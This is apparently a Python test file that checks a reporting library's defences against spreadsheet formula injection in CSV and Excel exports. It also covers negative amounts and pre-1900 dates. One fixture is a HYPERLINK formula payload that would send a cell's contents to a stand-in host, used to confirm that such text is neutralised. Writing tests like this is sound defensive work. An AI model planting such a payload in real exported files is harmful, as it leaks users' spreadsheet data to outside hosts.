"""Cells that mean mischief or cannot be kept: what each format makes of them (BI-161 to BI-176)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl
import polars as pl
import pytest

from reports.custom import custom_report
from reports.custom.catalogue import catalogue
from reports.errors import DeclarationError
from reports.model import Document, Field, ReportRequest, Table
from reports.render import render
from tests.unit.reports.documents import COMPANY, FACTS, document

LINK = '=HYPERLINK("http://x.test?"&A1,"k")'
FORMULAS = (LINK, "+1-555-0100", "@SUM(1)", "\t=1", "-1+2", "＝1", "＋1", "－1", "＠A1")
HARMLESS = ("Alder", "a=1", "'quoted", " =1", "")
MODEL = "rpt_enrollment_census__row"


def census(names: tuple[str, ...], amount: Decimal, **more: object) -> Document:
    fields = catalogue()["enrollment_census"].fields
    columns = {name: [None] * len(names) for name in fields}
    schema: dict[str, Any] = {
        n: pl.String for n, f in fields.items() if f.type in ("text", "identifier")
    }
    money: dict[str, Any] = {n: pl.Decimal(18, 2) for n, f in fields.items() if f.type == "money"}
    frame = pl.DataFrame(columns, schema_overrides=schema | money).with_columns(
        last_name=pl.Series(names, dtype=pl.String),
        employee_amount=pl.lit(amount, dtype=pl.Decimal(18, 2)),
        amount_reason=pl.lit(None, dtype=pl.String),
    )
    columns_shown = ["last_name", "employee_amount"]
    report = custom_report(
        {"dataset": "enrollment_census", "columns": columns_shown, **more}, "mine"
    )
    request = ReportRequest(COMPANY, date(2026, 10, 31), period="2026-10")
    return report.build({MODEL: frame}, request, FACTS)


def cells(made: Document) -> list[list[str]]:
    content = render(made, "csv")[0].content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))[1:]


@pytest.mark.parametrize("name", FORMULAS)
def test_bi_161_163_a_text_that_begins_like_a_formula_gets_an_apostrophe(name: str) -> None:
    [[shown, _]] = cells(census((name,), Decimal("1.00")))
    assert shown == "'" + name
    assert shown.removeprefix("'") == name


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_text_is_left_as_it_is(name: str) -> None:
    assert cells(census((name,), Decimal("1.00")))[0][0] == name


def test_bi_162_a_negative_amount_stays_a_number_in_both() -> None:
    made = census(("Alder",), Decimal("-12.50"))
    assert cells(made) == [["Alder", "-12.50"]]
    sheet = openpyxl.load_workbook(io.BytesIO(render(made, "xlsx")[0].content)).worksheets[1]
    assert -12.5 in [cell.value for row in sheet.iter_rows() for cell in row]


def test_bi_161_a_workbook_holds_the_text_and_neither_formula_nor_link() -> None:
    content = render(census((LINK,), Decimal("1.00")), "xlsx")[0].content
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet, parts = book.read("xl/worksheets/sheet2.xml").decode(), book.namelist()
    assert "<f>" not in sheet
    assert "HYPERLINK(" in sheet
    assert not [name for name in parts if "hyperlink" in name.lower() or "external" in name.lower()]
    values = openpyxl.load_workbook(io.BytesIO(content)).worksheets[1]
    kinds = {c.data_type for row in values.iter_rows() for c in row if c.value == LINK}
    assert kinds == {"s"}


def test_bi_164_a_file_for_a_program_is_left_as_it_is_and_says_so() -> None:
    made = census(("=PLAN-A", "Alder"), Decimal("1.00"), csv="machine")
    assert cells(made)[0][0] == "=PLAN-A"
    assert (
        "Formula-like text",
        "1 cell begins like a formula and stands as it is in the CSV file",
    ) in made.notes
    assert dict(census(("Alder",), Decimal("1.00"), csv="machine").notes) == {}


def test_only_people_and_machine_open_a_csv() -> None:
    with pytest.raises(DeclarationError):
        census(("Alder",), Decimal("1.00"), csv="anybody")


def test_bi_175_a_day_before_the_workbooks_calendar_is_a_text_cell() -> None:
    table = Table(
        "days", "Days", (Field("day", "Day", "date"),), pl.DataFrame({"day": [date(1899, 12, 31)]})
    )
    made = document(table)
    sheet = openpyxl.load_workbook(io.BytesIO(render(made, "xlsx")[0].content)).worksheets[1]
    found = [c for row in sheet.iter_rows() for c in row if c.value == "1899-12-31"]
    assert [cell.data_type for cell in found] == ["s"]
    assert (
        json.loads(render(made, "json")[0].content)["tables"][0]["rows"][0]["day"] == "1899-12-31"
    )
